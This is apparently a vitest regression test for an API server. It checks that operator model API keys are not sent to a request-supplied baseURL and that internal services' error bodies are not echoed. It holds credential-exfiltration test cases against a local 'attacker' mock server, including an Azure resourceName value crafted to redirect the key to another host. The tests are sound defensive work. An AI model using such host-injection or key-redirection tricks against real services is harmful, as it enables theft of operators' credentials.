// Attack: the operator's model keys went wherever a request pointed. An act whose model config named
// its own baseURL and no apiKey sent the server's OPENAI_API_KEY there (any <PREFIX>_API_KEY too, the
// Brave search key among them); and an internal service's answer came back in the 502's message.
// Now a request's own endpoint gets only the request's own key, and no upstream body is echoed.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { expectError, expectOk, useContract } from '../support/contract';
import { startModelServer, type ModelServer } from '../support/model-server';

const OPERATOR = {
  AZURE_API_KEY: 'operator-azure-5150',
  OPENAI_API_KEY: 'sk-operator-openai-5150',
  ANTHROPIC_API_KEY: 'operator-anthropic-5150',
  GOOGLE_GENERATIVE_AI_API_KEY: 'operator-google-5150',
  BRAVE_SEARCH_API_KEY: 'operator-brave-5150',
};
const INTERNAL_SECRET = 'internal-db-password-8e1f';

let attacker: ModelServer;
let operatorEndpoint: ModelServer;
let internal: Server;
let internalUrl: string;
const env: Record<string, string> = {};
beforeAll(async () => {
  attacker = await startModelServer();
  operatorEndpoint = await startModelServer();
  // An internal service that answers anything with a secret-looking body.
  internal = createServer((_req, res) => {
    res.writeHead(_req.url?.includes('ok') ? 200 : 403, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ message: INTERNAL_SECRET, error: { message: INTERNAL_SECRET, type: 'permission_error', code: INTERNAL_SECRET } }));
  });
  await new Promise<void>((resolve) => internal.listen(0, '127.0.0.1', resolve));
  internalUrl = `http://127.0.0.1:${(internal.address() as AddressInfo).port}`;
  Object.assign(env, OPERATOR, { OPENAI_BASE_URL: `${operatorEndpoint.url}/v1` });
});
afterAll(async () => {
  await attacker.close();
  await operatorEndpoint.close();
  await new Promise((resolve) => internal.close(resolve));
});
const ctx = useContract(env);
beforeEach(() => {
  attacker.requests.length = 0;
  operatorEndpoint.requests.length = 0;
});

const json = { 'x-stream-response': 'false', 'browserbase-cache-bypass': 'true' };
const operatorKeys = Object.values(OPERATOR);

async function extract(id: string, model: unknown, headers: Record<string, string> = {}) {
  return ctx.api.call('extract', { id, body: { instruction: 'the heading', options: { model } }, headers: { ...json, ...headers } });
}

function seen(server: ModelServer): string {
  return server.requests.map((r) => JSON.stringify(r.headers)).join('\n');
}

describe("the server's model keys go only where the operator said", () => {
  it("a request's own baseURL gets none of the server's keys, whatever the provider prefix", async () => {
    const id = await ctx.sessionOn('forms.html');
    for (const modelName of ['openai/gpt-4.1-mini', 'brave_search/any-model', 'openrouter/some-model']) {
      attacker.script({ json: { extraction: 'x' } });
      const reply = await extract(id, { modelName, baseURL: `${attacker.url}/v1` });
      expectOk(reply);
    }
    expect(attacker.requests).toHaveLength(3);
    for (const key of operatorKeys) expect(seen(attacker)).not.toContain(key);
    expect(attacker.requests.map((r) => r.headers.authorization)).toEqual([undefined, undefined, undefined]);
  });

  it('a provider that needs a key is refused with 400 before anything is sent to the endpoint', async () => {
    const id = await ctx.sessionOn('forms.html');
    for (const modelName of ['anthropic/claude-3-5-haiku-latest', 'google/gemini-2.5-flash']) {
      const body = expectError(await extract(id, { modelName, baseURL: `${attacker.url}/v1` }), 400, 'missing_model_key');
      expect(body.message).toMatch(/own key/);
    }
    expect(attacker.requests).toHaveLength(0);
  });

  it("an Azure resource name that would name another host is refused, so AZURE_API_KEY cannot follow it", async () => {
    const id = await ctx.sessionOn('forms.html');
    const host = new URL(attacker.url).host;
    const model = { modelName: 'azure/gpt-4o', provider: 'azure', providerOptions: { azure: { resourceName: `${host}/steal?` } } };
    expectError(await extract(id, model), 400, 'validation_error');
    expect(attacker.requests).toHaveLength(0);
  });

  it("the agent's model and the computer-use endpoint follow the same rule", async () => {
    const id = await ctx.sessionOn('forms.html');
    attacker.script({ toolCalls: [{ name: 'done', args: { success: true, message: 'ok' } }] });
    const agent = await ctx.api.call('agentExecute', {
      id,
      body: { agentConfig: { model: { modelName: 'openai/gpt-4.1-mini', baseURL: `${attacker.url}/v1` } }, executeOptions: { instruction: 'finish' } },
      headers: json,
    });
    expectOk(agent);
    const cua = await ctx.api.call('agentExecute', {
      id,
      body: { agentConfig: { mode: 'cua', model: { modelName: 'anthropic/claude-sonnet-4-5', baseURL: `${attacker.url}/v1` } }, executeOptions: { instruction: 'finish' } },
      headers: json,
    });
    expectError(cua, 400, 'missing_model_key');
    for (const key of operatorKeys) expect(seen(attacker)).not.toContain(key);
  });

  it("the client's own key goes to its endpoint: the call's apiKey, else the x-model-api-key header", async () => {
    const id = await ctx.sessionOn('forms.html');
    attacker.script([{ json: { extraction: 'x' } }, { json: { extraction: 'x' } }]);
    expectOk(await extract(id, { modelName: 'anthropic/claude-3-5-haiku-latest', apiKey: 'client-own-key', baseURL: `${attacker.url}/v1` }));
    expectOk(await extract(id, { modelName: 'openai/gpt-4.1-mini', baseURL: `${attacker.url}/v1` }, { 'x-model-api-key': 'client-header-key' }));
    expect(attacker.requests.map((r) => r.headers['x-api-key'] ?? r.headers.authorization)).toEqual(['client-own-key', 'Bearer client-header-key']);
  });

  it("the operator's endpoint (OPENAI_BASE_URL) keeps getting the operator's key", async () => {
    const id = await ctx.sessionOn('forms.html');
    operatorEndpoint.script({ json: { extraction: 'x' } });
    expectOk(await extract(id, 'openai/gpt-4.1-mini'));
    expect(operatorEndpoint.requests.map((r) => r.headers.authorization)).toEqual([`Bearer ${OPERATOR.OPENAI_API_KEY}`]);
  });
});

describe('upstream error bodies are not echoed', () => {
  it("an internal service's answer does not come back: 502 naming the provider, the status and a known error type", async () => {
    const id = await ctx.sessionOn('forms.html');
    const refused = expectError(await extract(id, { modelName: 'openai/gpt-4.1-mini', apiKey: 'k', baseURL: `${internalUrl}/v1` }), 502, 'model_error');
    expect(refused.message).toContain('openai');
    expect(refused.message).toContain('HTTP 403');
    expect(refused.message).toContain('permission_error');
    expect(refused.message).not.toContain(INTERNAL_SECRET);

    const unreadable = expectError(await extract(id, { modelName: 'openai/gpt-4.1-mini', apiKey: 'k', baseURL: `${internalUrl}/ok/v1` }), 502, 'model_error');
    expect(unreadable.message).not.toContain(INTERNAL_SECRET);
    expect(ctx.server.logs.join('\n')).not.toContain(INTERNAL_SECRET);
  });
});
